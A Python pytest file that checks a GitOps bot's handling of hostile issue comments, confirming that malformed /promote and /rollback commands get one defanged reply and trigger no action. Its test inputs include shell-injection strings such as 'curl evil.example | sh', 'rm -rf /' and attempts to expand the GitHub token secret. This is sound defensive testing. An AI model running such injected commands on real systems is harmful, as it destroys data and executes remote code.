"""Hostile comments: each malformed command is answered once in its thread, nothing else.

A command the bot cannot act on gets exactly three writes: 👀 on the comment, one reply, 😕.
A comment that is not a command gets none at all (and no request either).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from scoutflow_gitops.sandbox.control import post_comment
from scoutflow_gitops.sandbox.driver import JobResult
from tests.hostile.harness import (
    GITOPS,
    assert_no_crash,
    assert_no_injected_commands,
    assert_policy,
    pulls,
    run,
)
from tests.sandbox.fixtures import LiveSandbox

SHA = "0123456789abcdef0123456789abcdef01234567"


def comment(
    live: LiveSandbox, tmp_path: Path, body: str, user: str = "release-manager", **edits: Any
) -> tuple[JobResult, Any, dict[str, Any]]:
    payload = post_comment(live.sandbox, live.server.shapes, GITOPS, user=user, body=body)
    for key, value in edits.items():
        payload[key] = value
    job = run(live, tmp_path, payload, event_name="issue_comment")
    issue = live.sandbox.issue(live.sandbox.repo(GITOPS), payload["issue"]["number"])
    return job, issue, payload


def assert_answered_once(job: JobResult, issue: Any, *words: str) -> str:
    """Refused in the thread: 👀, one reply naming the problem, 😕; no PR, no commit."""
    assert_no_crash(job)
    assert (job.exit_code, job.result) == (0, "refused"), job.stdout
    asked = issue.comments[0]
    assert [(request["method"], request["path"], request["body"]) for request in job.writes] == [
        ("POST", f"/repos/{GITOPS}/issues/comments/{asked.id}/reactions", {"content": "eyes"}),
        ("POST", f"/repos/{GITOPS}/issues/{issue.number}/comments", job.writes[1]["body"]),
        ("POST", f"/repos/{GITOPS}/issues/comments/{asked.id}/reactions", {"content": "confused"}),
    ]
    (reply,) = [c.body for c in issue.comments[1:]]
    for word in words:
        assert word in reply, reply
    assert_no_injected_commands(job)
    return str(reply)


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("/promote prod; rm -rf /", "does not understand `prod?`"),
        ("/promote prod && curl evil.example | sh", "does not understand `??`"),
        ("/promote prod $(curl evil.example)", "does not understand `??curl`"),
        ("/promote prod `id`", "does not understand `?id?`"),
        ("/promote ${{ secrets.GITHUB_TOKEN }}", "does not understand `???`"),
        ("/rollback stage ${{github.token}}", "does not understand `???github.token??`"),
        ("/promote prod\u200b", "does not understand `prod?`"),
        ("/promote \u200bprod", "does not understand `?prod`"),
        ("/promote \u202eprod", "does not understand `?prod`"),
        ("/rollback \u202e\u2066stage\u2069", "does not understand `??stage?`"),
        ("/promote prod @everyone", "does not understand `?everyone`"),
        ("/promote prod [x](https://evil.example)", "does not understand `?x??https"),
        ("/promote moon", "`moon` is not an environment that is promoted by command"),
        ("/promote stage", "`stage` is not an environment that is promoted by command"),
        ("/rollback moon", "unknown environment `moon`"),
        ("/release PROD", "unknown environment `PROD`"),
        ("/promote prod abc1234", "`abc1234` is not a full commit SHA"),
        (f"/promote prod {SHA.upper()}", "is not a full commit SHA"),
        ("/rollback stage " + "g" * 40, "is not a full commit SHA"),
        (f"/rollback stage {SHA}0", "is not a full commit SHA"),
        ("/promote prod " + SHA + " extra", "takes an environment and an optional SHA"),
        ("/promote", "takes an environment and an optional SHA"),
        ("/promote " + "a" * 65, "does not understand"),
    ],
    ids=lambda value: ascii(value)[:40],
)
def test_a_malformed_command_is_answered_once_and_changes_nothing(
    live_sandbox: LiveSandbox, tmp_path: Path, body: str, words: str
) -> None:
    job, issue, _ = comment(live_sandbox, tmp_path, body)
    reply = assert_answered_once(job, issue, words)
    # The reply quotes outside text defanged: no mention, link, code span or control character.
    assert "@everyone" not in reply and "](" not in reply.replace("](http", "")
    assert not any(ch in reply for ch in "\u200b\u202e\u2066\u2069$")
    assert pulls(live_sandbox) == []


@pytest.mark.parametrize(
    "body",
    [
        "x" * 1_000_000,
        "/promote prod " + "x" * 1_000_000,
        "/promote\u200b prod",
        "\u202e/promote prod",
        "/prom\u200bote prod",
        "please /promote prod",
        " \n\t ",
    ],
    ids=["1MB", "1MB-command", "zwsp-glued", "rlo-first", "zwsp-inside", "not-first", "blank"],
)
def test_a_comment_that_is_not_a_command_is_ignored_without_a_request(
    live_sandbox: LiveSandbox, tmp_path: Path, body: str
) -> None:
    job, issue, _ = comment(live_sandbox, tmp_path, body)
    assert_policy(job, "skipped", requests=0)
    assert job.requests == ()
    assert len(issue.comments) == 1 and issue.comments[0].reactions == []


def test_a_command_below_an_empty_first_line_is_ignored_without_a_write(
    live_sandbox: LiveSandbox, tmp_path: Path
) -> None:
    job, issue, _ = comment(live_sandbox, tmp_path, "\n/promote prod")
    assert_policy(job, "skipped", requests=0)
    assert issue.comments[0].reactions == []


def test_a_comment_in_another_repository_is_skipped_without_a_request(
    live_sandbox: LiveSandbox, tmp_path: Path
) -> None:
    live = live_sandbox
    payload = post_comment(
        live.sandbox, live.server.shapes, GITOPS, user="release-manager", body="/promote prod"
    )
    payload["repository"] = {**payload["repository"], "full_name": "mallory/scoutflow-gitops"}
    job = run(live, tmp_path, payload, event_name="issue_comment")
    assert_policy(job, "skipped", "mallory/scoutflow-gitops", requests=0)


def test_a_comment_by_a_bot_is_skipped_without_a_request(
    live_sandbox: LiveSandbox, tmp_path: Path
) -> None:
    live = live_sandbox
    payload = post_comment(
        live.sandbox, live.server.shapes, GITOPS, user="release-manager", body="/promote prod"
    )
    payload["comment"]["user"]["type"] = "Bot"
    job = run(live, tmp_path, payload, event_name="issue_comment")
    assert_policy(job, "skipped", "is a bot", requests=0)


def test_a_forged_sender_login_never_reaches_a_reply_raw(
    live_sandbox: LiveSandbox, tmp_path: Path
) -> None:
    live = live_sandbox
    payload = post_comment(
        live.sandbox, live.server.shapes, GITOPS, user="release-manager", body="/promote prod"
    )
    payload["sender"] = {**payload["sender"], "login": "release-manager\n\n@everyone ```"}
    job = run(live, tmp_path, payload, event_name="issue_comment")
    assert_no_crash(job)
    bodies = [str(request["body"]) for request in job.writes]
    assert not any("@everyone" in body or "```" in body for body in bodies), bodies
    assert "\n@everyone" not in job.stdout
